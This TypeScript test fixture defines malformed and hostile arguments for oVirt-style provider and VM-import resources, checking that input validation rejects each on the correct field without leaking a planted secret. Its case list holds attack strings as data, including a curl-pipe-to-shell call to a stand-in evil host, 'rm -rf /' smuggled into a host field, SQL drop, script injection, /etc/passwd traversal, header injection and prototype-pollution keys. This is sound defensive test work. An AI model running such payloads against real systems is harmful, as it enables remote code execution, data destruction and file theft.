/**
 * Malformed, hostile and oversized arguments, and the field each one must be refused on. The
 * corpus is written once for every kind of resource: each kind names where its name, address and
 * secret fields are, and every free-text field it has, and the cases are applied there.
 */

/** A password-like value planted in every secret field; no message or log line may hold it. */
export const PLANTED_SECRET = "Planted-S3cret-7f3a";

/** The same secret as a Ceph key (base64), for the one secret field that must be base64. */
export const PLANTED_CEPH_KEY = Buffer.from(PLANTED_SECRET).toString("base64");

export interface KindUnderTest {
  typeName: string;
  module: string;
  /** Valid arguments, every secret field holding the planted secret. */
  valid: Record<string, unknown>;
  /** A free-text name field with the engine's name rules. */
  nameField: string;
  /** The field holding a URL or host address. */
  addressField: string;
  /** Dotted path of a password field. */
  secretField: string;
  /**
   * Every free-text field (names, descriptions, users, tenants, hosts, custom property values),
   * as dotted paths with list indices in brackets, e.g. "authenticationKeys[0].description".
   */
  textFields: string[];
}

export interface BadInputCase {
  title: string;
  /** Builds the bad arguments from a kind's valid ones. */
  apply(kind: KindUnderTest): Record<string, unknown>;
  /** The dotted property the failure must name. */
  property(kind: KindUnderTest): string;
}

const keystone = {
  keystoneUrl: "https://keystone.example.com:35357/v2.0",
  tenantName: "services",
};

const keystoneV3 = {
  keystoneUrl: "https://keystone.example.com:5000/v3",
  userDomainName: "Default",
  projectName: "services",
  projectDomainName: "Default",
};

const PROVIDER_ID = "6b4d7a52-8c3e-4f1a-9d2b-0e5f7c8a1b3d";

const connection = {
  url: "https://engine.example.com/ovirt-engine/api",
  username: "admin@internal",
  password: PLANTED_SECRET,
};

export const kindsUnderTest: KindUnderTest[] = [
  {
    typeName: "ForemanProvider",
    module: "foreman-provider",
    valid: {
      name: "foreman1",
      url: "https://foreman.example.com",
      description: "Satellite of site A",
      authentication: { username: "admin", password: PLANTED_SECRET },
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
    textFields: ["name", "description", "authentication.username"],
  },
  {
    typeName: "OpenStackImageProvider",
    module: "openstack-image-provider",
    valid: {
      name: "glance1",
      url: "https://glance.example.com:9292",
      description: "Images",
      authentication: { username: "glance", password: PLANTED_SECRET, ...keystone },
      properties: { zone: "east" },
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
    textFields: [
      "name",
      "description",
      "authentication.username",
      "authentication.tenantName",
      "properties.zone",
    ],
  },
  {
    typeName: "OpenStackNetworkProvider",
    module: "openstack-network-provider",
    valid: {
      name: "neutron1",
      url: "https://neutron.example.com:9696",
      description: "Networks",
      authentication: { username: "neutron", password: PLANTED_SECRET, ...keystone },
      agentConfiguration: {
        interfaceMappings: "physnet1:eth1",
        host: "amqp.example.com",
        username: "guest",
        password: PLANTED_SECRET,
      },
      properties: { zone: "east" },
    },
    nameField: "name",
    addressField: "url",
    secretField: "agentConfiguration.password",
    textFields: [
      "name",
      "description",
      "authentication.username",
      "authentication.tenantName",
      "agentConfiguration.interfaceMappings",
      "agentConfiguration.host",
      "agentConfiguration.username",
      "properties.zone",
    ],
  },
  {
    typeName: "ExternalNetworkProvider",
    module: "external-network-provider",
    valid: {
      name: "ovn1",
      url: "https://ovn.example.com:9696",
      description: "OVN",
      pluginType: "OVIRT_PROVIDER_OVN",
      authentication: { username: "admin@internal", password: PLANTED_SECRET, ...keystoneV3 },
      properties: { zone: "east" },
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
    textFields: [
      "name",
      "description",
      "pluginType",
      "authentication.username",
      "authentication.userDomainName",
      "authentication.projectName",
      "authentication.projectDomainName",
      "properties.zone",
    ],
  },
  {
    typeName: "OpenStackVolumeProvider",
    module: "openstack-volume-provider",
    valid: {
      name: "cinder1",
      url: "https://cinder.example.com:8776",
      description: "Volumes",
      dataCenter: "Default",
      authentication: { username: "cinder", password: PLANTED_SECRET, ...keystone },
      authenticationKeys: [
        {
          uuid: "2ba1b2a0-3c1f-4e0b-9c55-7d2f3f1e6a10",
          value: PLANTED_CEPH_KEY,
          description: "client.cinder",
        },
      ],
      properties: { zone: "east" },
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
    textFields: [
      "name",
      "description",
      "dataCenter",
      "authentication.username",
      "authentication.tenantName",
      "authenticationKeys[0].description",
      "properties.zone",
    ],
  },
  {
    typeName: "VmwareProvider",
    module: "vmware-provider",
    valid: {
      name: "vcenter1",
      vcenter: "vcenter.example.com",
      esxiHost: "esxi01.example.com",
      description: "vCenter of site A",
      dataCenter: "Datacenter",
      cluster: "Cluster1",
      username: "administrator@vsphere.local",
      password: PLANTED_SECRET,
      destinationDataCenter: "Default",
      proxyHost: "host1",
    },
    nameField: "name",
    addressField: "vcenter",
    secretField: "password",
    textFields: [
      "name",
      "description",
      "esxiHost",
      "dataCenter",
      "cluster",
      "username",
      "destinationDataCenter",
      "proxyHost",
    ],
  },
  {
    typeName: "VmwareVmImport",
    module: "vmware-vm-import",
    valid: {
      url: "vpx://administrator%40vsphere.local@vcenter.example.com/Datacenter/esxi01.example.com",
      username: "administrator@vsphere.local",
      password: PLANTED_SECRET,
      sourceVmName: "web01",
      newName: "web01-migrated",
      cluster: "Default",
      storageDomain: "data1",
      proxyHost: "host1",
      driversIso: "virtio-win.iso",
      connection,
    },
    nameField: "newName",
    addressField: "url",
    secretField: "password",
    textFields: [
      "sourceVmName",
      "newName",
      "username",
      "cluster",
      "storageDomain",
      "proxyHost",
      "driversIso",
      "connection.username",
    ],
  },
  {
    typeName: "ImportedNetwork",
    module: "imported-network",
    valid: { providerId: PROVIDER_ID, dataCenter: "Default", networkName: "red", connection },
    // The provider's id is the one argument with a strict shape (a UUID), so the name cases go
    // there; the engine URL of the connection takes the address cases.
    nameField: "providerId",
    addressField: "connection.url",
    secretField: "connection.password",
    textFields: ["dataCenter", "networkName", "connection.username"],
  },
  {
    typeName: "ImportedImage",
    module: "imported-image",
    valid: {
      providerId: PROVIDER_ID,
      imageName: "cirros-0.6.2",
      storageDomain: "data1",
      importAs: "template",
      cluster: "Default",
      templateName: "cirros",
      diskAlias: "cirros-disk",
      connection,
    },
    nameField: "providerId",
    addressField: "connection.url",
    secretField: "connection.password",
    textFields: [
      "imageName",
      "storageDomain",
      "cluster",
      "templateName",
      "diskAlias",
      "connection.username",
    ],
  },
];

/** The keys of a dotted path, list indices in brackets included: "a[0].b" is a, 0, b. */
function pathKeys(dottedPath: string): string[] {
  return dottedPath.split(/\.|(?=\[)/).map((key) => key.replace(/^\[(\d+)\]$/, "$1"));
}

function withKeys(container: unknown, keys: readonly string[], value: unknown): unknown {
  const [head, ...rest] = keys;
  const inner = Array.isArray(container)
    ? [...container]
    : { ...((container ?? {}) as Record<string, unknown>) };
  const slots = inner as Record<string, unknown>;
  slots[head] = rest.length === 0 ? value : withKeys(slots[head], rest, value);
  return inner;
}

/** `valid` with the value at a dotted path replaced (nested objects are copied, not changed). */
export function withValue(
  valid: Record<string, unknown>,
  dottedPath: string,
  value: unknown,
): Record<string, unknown> {
  return withKeys(valid, pathKeys(dottedPath), value) as Record<string, unknown>;
}

/** `valid` plus one own key, set with defineProperty so that `__proto__` stays a plain key. */
function withOwnKey(valid: Record<string, unknown>, key: string, value: unknown) {
  const copy = { ...valid };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

const MEBIBYTE = 1024 * 1024;

const nameCase = (title: string, value: unknown): BadInputCase => ({
  title: `name field: ${title}`,
  apply: (kind) => withValue(kind.valid, kind.nameField, value),
  property: (kind) => kind.nameField,
});

const addressCase = (title: string, value: unknown): BadInputCase => ({
  title: `address field: ${title}`,
  apply: (kind) => withValue(kind.valid, kind.addressField, value),
  property: (kind) => kind.addressField,
});

const secretCase = (title: string, value: unknown): BadInputCase => ({
  title: `secret field: ${title}`,
  apply: (kind) => withValue(kind.valid, kind.secretField, value),
  property: (kind) => kind.secretField,
});

/**
 * Control characters that no free-text field takes (descriptions keep only tab and newline), and
 * a value of the wrong type.
 */
const textFieldValues: Array<[string, unknown]> = [
  ["NUL, escape and an injected header line", "a\u0000b\u001b[31m\r\nX-Injected: 1"],
  ["a carriage return and an injected header line", "a\r\nX: 1"],
  ["a C1 control character", "next\u0085line"],
  ["a DEL character", "de\u007fl"],
  ["a number", 42],
];

/** The cases above for every free-text field of `kind`. */
export function textFieldCases(kind: KindUnderTest): BadInputCase[] {
  return kind.textFields.flatMap((field) =>
    textFieldValues.map(([title, value]) => ({
      title: `text field ${field}: ${title}`,
      apply: (target: KindUnderTest) => withValue(target.valid, field, value),
      property: () => field,
    })),
  );
}

const unknownKeyCase = (key: string, value: unknown): BadInputCase => ({
  title: `unknown argument ${JSON.stringify(key)}`,
  apply: (kind) => withOwnKey(kind.valid, key, value),
  property: () => key,
});

export const badInputCases: BadInputCase[] = [
  nameCase("a string of one mebibyte", "n".repeat(MEBIBYTE)),
  nameCase("NUL, escape and line breaks", "web\u0000\u001b[31m\r\nX-Injected: 1"),
  nameCase("SQL injection", "x'; DROP TABLE providers;--"),
  nameCase("shell injection", "$(curl evil.example.com | sh)"),
  nameCase("markup injection", "<script>alert(1)</script>"),
  nameCase("path traversal", "../../etc/passwd"),
  nameCase("an empty string", ""),
  nameCase("a number", 42),
  nameCase("a boolean", true),
  nameCase("an array", ["web01"]),
  nameCase("an object", { toString: "web01" }),
  addressCase("a javascript: URL", "javascript:alert(1)"),
  addressCase("a file: URL", "file:///etc/passwd"),
  addressCase("header injection", "https://host.example.com\r\nX-Injected: 1"),
  addressCase("a command in the host", "host.example.com;rm -rf /"),
  addressCase("credentials in the address", `https://admin:${PLANTED_SECRET}@host.example.com`),
  addressCase("a string of one mebibyte", `https://${"h".repeat(MEBIBYTE)}.example.com`),
  addressCase("a number", 8080),
  secretCase("a number", 12345),
  secretCase("an object", { value: PLANTED_SECRET }),
  secretCase("longer than the engine keeps", PLANTED_SECRET.repeat(1000)),
  unknownKeyCase("colour", "blue"),
  unknownKeyCase("Name", "misspelled"),
  unknownKeyCase("passwd", PLANTED_SECRET),
  unknownKeyCase("__proto__", { polluted: true }),
  unknownKeyCase("constructor", { prototype: { polluted: true } }),
  unknownKeyCase("prototype", { polluted: true }),
];
